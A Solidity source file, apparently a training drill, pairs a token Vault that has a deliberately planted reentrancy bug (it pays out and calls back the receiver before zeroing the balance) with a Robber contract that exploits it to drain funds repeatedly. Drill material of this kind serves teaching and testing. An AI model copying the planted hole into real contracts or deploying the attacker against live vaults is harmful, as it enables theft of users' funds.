// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// @notice Whom a vault tells that it is about to pay.
interface IPaid {
    function paid() external;
}

/// @title A vault with the oldest bug there is
/// @notice For drills on a fork only. It pays before it writes down that it did, and tells the receiver in between.
contract Vault {
    using SafeERC20 for IERC20;

    error NotGuardian();
    error EnforcedPause();

    IERC20 private immutable TOKEN;
    address private immutable GUARDIAN;
    mapping(address account => uint256) public balanceOf;
    bool public paused;

    constructor(IERC20 token, address guardian) {
        TOKEN = token;
        GUARDIAN = guardian;
    }

    function deposit(uint256 amount) external {
        balanceOf[msg.sender] += amount;
        TOKEN.safeTransferFrom(msg.sender, address(this), amount);
    }

    function withdraw() external {
        if (paused) revert EnforcedPause();
        uint256 amount = balanceOf[msg.sender];
        TOKEN.safeTransfer(msg.sender, amount);
        // The planted bug: the receiver may come back before its balance is gone.
        IPaid(msg.sender).paid();
        balanceOf[msg.sender] = 0;
    }

    function pause() external {
        if (msg.sender != GUARDIAN) revert NotGuardian();
        paused = true;
    }

    function unpause() external {
        if (msg.sender != GUARDIAN) revert NotGuardian();
        paused = false;
    }
}

/// @title Whoever comes back
contract Robber is IPaid {
    using SafeERC20 for IERC20;

    Vault private immutable VAULT;
    IERC20 private immutable TOKEN;
    uint256 private left;

    constructor(Vault vault, IERC20 token) {
        VAULT = vault;
        TOKEN = token;
    }

    /// @notice Pays in what this holds, and takes it out so many times more.
    function rob(uint256 times) external {
        uint256 stake = TOKEN.balanceOf(address(this));
        TOKEN.forceApprove(address(VAULT), stake);
        VAULT.deposit(stake);
        left = times;
        VAULT.withdraw();
        // Keeps the stake for the next round.
        TOKEN.safeTransfer(msg.sender, TOKEN.balanceOf(address(this)) - stake);
    }

    function paid() external {
        if (left == 0) return;
        --left;
        VAULT.withdraw();
    }
}
